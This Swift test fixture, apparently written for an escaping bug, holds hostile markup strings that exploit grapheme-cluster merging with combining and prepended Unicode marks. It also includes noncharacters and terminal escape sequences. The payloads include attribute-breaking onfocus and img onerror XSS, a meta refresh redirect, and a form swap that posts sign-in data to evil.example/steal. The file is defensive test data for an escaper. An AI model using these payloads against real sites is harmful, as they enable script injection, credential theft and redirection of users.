/// Text that walks through escaping done by `Character` (issue 48): a quote or `<` that a combining or a
/// prepended mark joins into one grapheme cluster, a noncharacter XML forbids, and a terminal escape.
package enum HostileMarkup {
    /// A quote followed by U+0301 (one `Character`), closing an attribute and adding one.
    package static let quoteWithCombiningMark = "\"\u{301} autofocus onfocus=alert(1) x=\"\u{301}"
    /// `<` after U+0600 (a prepended concatenation mark: one `Character`), opening an element.
    package static let prependedLessThan = "\u{600}<img/src/onerror=alert(1)// \u{600}>"
    /// U+FFFE, which XML 1.0 forbids, and U+FFFF.
    package static let noncharacters = "a" + scalar(0xFFFE) + "b" + scalar(0xFFFF) + "c"

    /// The one-scalar string of `value` (a Swift literal cannot hold a noncharacter such as U+FFFE).
    package static func scalar(_ value: UInt32) -> String {
        Unicode.Scalar(value).map { String(Character($0)) } ?? ""
    }
    /// A terminal escape sequence (clear the screen, red), a carriage return and a one-byte CSI.
    package static let terminalEscape = "ok\u{1B}[2J\u{1B}[31mFAKE\r\u{9B}2J"

    /// The sign-in page `state`: closes the form's hidden input and opens a form posting elsewhere.
    package static let formSwapState =
        "\u{600}\"\u{600}> \u{600}</form \u{600}>\u{600}<form method=post action=https://evil.example/steal \u{600}>"
    /// The kit report `redirect_uri`.
    package static let reportRedirectURI = "\u{600}<img/src/onerror=alert(1)// \u{600}>"
    /// The issue's `client_id` on `/auth/token`, shown on the requests page.
    package static let metaRefreshClientID = "\u{600}<meta http-equiv=refresh content=0;url=https://evil.example/ \u{600}>"

    /// Every payload, one after another.
    package static let all = [quoteWithCombiningMark, prependedLessThan, noncharacters, terminalEscape].joined(separator: " ")
}
